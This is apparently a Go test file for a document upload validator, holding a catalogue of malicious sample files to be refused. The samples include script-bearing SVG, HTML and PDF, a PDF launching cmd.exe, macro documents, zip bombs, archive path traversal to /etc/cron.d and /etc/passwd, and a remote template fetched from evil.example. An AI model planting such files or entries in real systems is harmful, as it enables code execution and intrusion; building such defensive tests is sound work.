package document

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strconv"
	"strings"
	"testing"
)

func canvas(w, h int) image.Image {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			m.Set(x, y, color.RGBA{uint8(x * 7), uint8(y * 5), uint8(x ^ y), 255})
		}
	}
	return m
}

func photo(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, canvas(w, h), nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func picture(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, canvas(w, h)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// withExif puts an Exif segment behind the start of a photo: its orientation,
// and a place in a text.
func withExif(data []byte, orientation uint16, little bool) []byte {
	var order binary.AppendByteOrder = binary.BigEndian
	tiff := []byte("MM\x00*")
	if little {
		order, tiff = binary.LittleEndian, []byte("II*\x00")
	}
	tiff = order.AppendUint32(tiff, 8)
	tiff = order.AppendUint16(tiff, 2)
	for _, e := range [][3]uint16{{0x010E, 2, 1}, {0x0112, 3, orientation}} {
		tiff = order.AppendUint16(order.AppendUint16(tiff, e[0]), e[1])
		tiff = order.AppendUint32(tiff, 1)
		tiff = order.AppendUint16(order.AppendUint16(tiff, e[2]), 0)
	}
	body := append(append([]byte("Exif\x00\x00"), tiff...), "GPS-29.08N"...)
	segment := binary.BigEndian.AppendUint16([]byte{0xFF, 0xE1}, uint16(len(body)+2))
	return append(append(append(append([]byte{}, data[:2]...), segment...), body...), data[2:]...)
}

// chunk makes a chunk of a png.
func chunk(kind string, body []byte) []byte {
	c := append(binary.BigEndian.AppendUint32(nil, uint32(len(body))), kind...)
	c = append(c, body...)
	return binary.BigEndian.AppendUint32(c, crc32.ChecksumIEEE(c[4:]))
}

// withChunk puts a chunk behind the header of a png, which ends at byte 33.
func withChunk(data []byte, kind string, body []byte) []byte {
	return append(append(append([]byte{}, data[:33]...), chunk(kind, body)...), data[33:]...)
}

// pngHeader is a png that promises w × h pixels and holds some rows of them.
func pngHeader(w, h uint32, depth byte, rest []byte) []byte {
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	return append(append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(head, depth, 6, 0, 0, 0))...), rest...)
}

// jpegOf changes the size in the frame header of a photo.
func jpegOf(data []byte, w, h uint16) []byte {
	data = append([]byte{}, data...)
	i := bytes.Index(data, []byte{0xFF, 0xC0})
	binary.BigEndian.PutUint16(data[i+5:], h)
	binary.BigEndian.PutUint16(data[i+7:], w)
	return data
}

func pdf(body string) []byte {
	return []byte("%PDF-1.7\n1 0 obj\n<< " + body + " >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")
}

const types = `<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>`

type entry struct{ name, text string }

func archiveOf(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		f, err := w.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(e.text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func docx(t testing.TB, more ...entry) []byte {
	t.Helper()
	return archiveOf(t, append([]entry{{"[Content_Types].xml", types}, {"word/document.xml", "<document/>"}}, more...)...)
}

// hostile are files that must be refused, by the name under which they come.
func hostile(t testing.TB) map[string][]byte {
	t.Helper()
	many := []entry{}
	for i := range 2001 {
		many = append(many, entry{"word/media/" + strconv.Itoa(i), ""})
	}
	large := make([]entry, 9) // 9 × 8 MiB of text that does not repeat too well
	for i := range large {
		large[i] = entry{"word/media/l" + strconv.Itoa(i), noise(8 << 20)}
	}
	locked := docx(t)
	locked[6] |= 1 // the flag of the first local header; the directory's follows
	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
	short := docx(t)
	plain := photo(t, 40, 30)
	scans := append([]byte{}, plain[:bytes.Index(plain, []byte{0xFF, 0xDA})]...)
	scan := plain[bytes.Index(plain, []byte{0xFF, 0xDA}):]
	scans = append(scans, bytes.Repeat(scan[:len(scan)-2], 200)...)
	return map[string][]byte{
		"空.pdf":                           {},
		"20 MiB and a byte.pdf":           append(pdf(""), bytes.Repeat([]byte(" "), 20<<20)...),
		"a jpg called.png":                plain,
		"a png called.jpg":                picture(t, 8, 8),
		"a docx called.xlsx":              docx(t),
		"a docx called.pdf":               docx(t),
		"an svg called.png":               []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"html called.pdf":                 []byte("<html><script>alert(1)</script></html>"),
		"html before a.pdf":               append([]byte("<script>alert(1)</script>\n"), pdf("")...),
		"a program.docx":                  append([]byte("MZ\x90\x00"), docx(t)...),
		"a program called.jpg":            []byte("MZ\x90\x00\x03\x00\x00\x00"),
		"a gif.gif":                       []byte("GIF89a\x01\x00\x01\x00"),
		"heic.jpg":                        []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"),
		"an old.doc":                      []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
		"a video.mp4":                     []byte("\x00\x00\x00\x18ftypmp42"),
		"a text.txt":                      []byte("会议记录"),
		"cut.jpg":                         plain[:len(plain)/2],
		"only a head.jpg":                 plain[:20],
		"cut.png":                         picture(t, 40, 30)[:60],
		"huge.png":                        pngHeader(100_000, 100_000, 8, nil),
		"41 megapixels.png":               pngHeader(8200, 5000, 8, nil),
		"deep.png":                        pngHeader(6000, 6000, 16, nil),
		"promises much.png":               pngHeader(6000, 6000, 8, chunk("IDAT", []byte{0x78, 0x9C, 0x03, 0x00})),
		"zero.png":                        pngHeader(0, 5, 8, nil),
		"huge.jpg":                        jpegOf(plain, 65000, 65000),
		"many scans.jpg":                  scans,
		"cut.pdf":                         pdf("")[:60],
		"script.pdf":                      pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
		"hidden script.pdf":               pdf("/AA << /S /J#61vaScript /#4AS (x) >>"),
		"short script.pdf":                pdf("/OpenAction << /JS 12 0 R >>"),
		"launch.pdf":                      pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
		"also an archive.pdf":             append(pdf(""), docx(t)...),
		"zip bomb.docx":                   docx(t, entry{"word/bomb.xml", strings.Repeat("\x00", 60<<20)}),
		"too large inside.docx":           docx(t, large...),
		"too many.docx":                   docx(t, many...),
		"macro.docx":                      docx(t, entry{"word/vbaProject.bin", "x"}),
		"hidden macro.docx":               docx(t, entry{"word/VBAPROJECT.BIN", "x"}),
		"macro type.docx":                 archiveOf(t, entry{"[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`}, entry{"word/document.xml", "<d/>"}),
		"old macros.xlsx":                 archiveOf(t, entry{"[Content_Types].xml", types}, entry{"xl/workbook.xml", "<w/>"}, entry{"xl/macrosheets/sheet1.xml", "<s/>"}),
		"a macro document inside.docx":    docx(t, entry{"word/embeddings/Document1.docm", "x"}),
		"macros within.docx":              docx(t, entry{"word/embeddings/Sheet.xlsx", string(docx(t, entry{"xl/vbaProject.bin", "x"}))}),
		"macros within another name.docx": docx(t, entry{"word/embeddings/x.bin", string(docx(t, entry{"word/vbaProject.bin", "x"}))}),
		"within within.docx":              docx(t, entry{"word/embeddings/a.xlsx", string(docx(t, entry{"word/embeddings/b.xlsx", string(docx(t))}))}),
		"an old document inside.docx":     docx(t, entry{"word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"}),
		"no archive inside.docx":          docx(t, entry{"word/embeddings/a.xlsx", "PK\x03\x04" + strings.Repeat("x", 80)}),
		"a script inside.docx":            docx(t, entry{"word/embeddings/run.hta", "x"}),
		"a shortcut inside.docx":          docx(t, entry{"word/embeddings/run.lnk", "x"}),
		"an installer inside.docx":        docx(t, entry{"word/embeddings/run.msi", "x"}),
		"a binary workbook.docx":          docx(t, entry{"word/embeddings/a.xlsb", "x"}),
		"slides with macros.docx":         docx(t, entry{"word/embeddings/a.ppsm", "x"}),
		"a template inside.docx":          docx(t, entry{"word/embeddings/a.DOTM", "x"}),
		"a program within.docx":           docx(t, entry{"word/embeddings/a.xlsx", string(docx(t, entry{"xl/run.exe", "MZ"}))}),
		"climbs out within.docx":          docx(t, entry{"word/embeddings/a.xlsx", string(docx(t, entry{"../x", "x"}))}),
		"entities within.docx":            docx(t, entry{"word/embeddings/a.xlsx", string(docx(t, entry{"xl/styles.xml", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`}))}),
		"a bomb within.docx":              docx(t, entry{"word/embeddings/a.xlsx", string(docx(t, entry{"xl/bomb.xml", strings.Repeat("\x00", 60<<20)}))}),
		"entities.docx":                   docx(t, entry{"word/styles.xml", `<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`}),
		"template from outside.docx":      docx(t, entry{"word/_rels/settings.xml.rels", `<Relationship Type="…/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`}),
		"climbs out.docx":                 docx(t, entry{"../../etc/cron.d/x", "x"}),
		"climbs out twice.docx":           docx(t, entry{`..\..\windows\x`, "x"}),
		"absolute.docx":                   docx(t, entry{"/etc/passwd", "x"}),
		"program inside.docx":             docx(t, entry{"word/embeddings/run.EXE", "MZ"}),
		"twice.docx":                      docx(t, entry{"word/document.xml", "<other/>"}),
		"locked.docx":                     locked,
		"cut.docx":                        short[:len(short)-30],
		"plain.zip":                       archiveOf(t, entry{"a.txt", "x"}),
		"no types.docx":                   archiveOf(t, entry{"word/document.xml", "<d/>"}),
		"no directory.docx":               []byte("PK\x03\x04" + strings.Repeat("\x00", 100)),
		"archive and pdf.docx":            archiveOf(t, entry{"%PDF-1.7", "%%EOF"}, entry{"[Content_Types].xml", types}, entry{"word/document.xml", "<d/>"}),
	}
}

// noise is text that packs to about a hundredth.
func noise(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i >> 7 * 31)
	}
	return string(b)
}
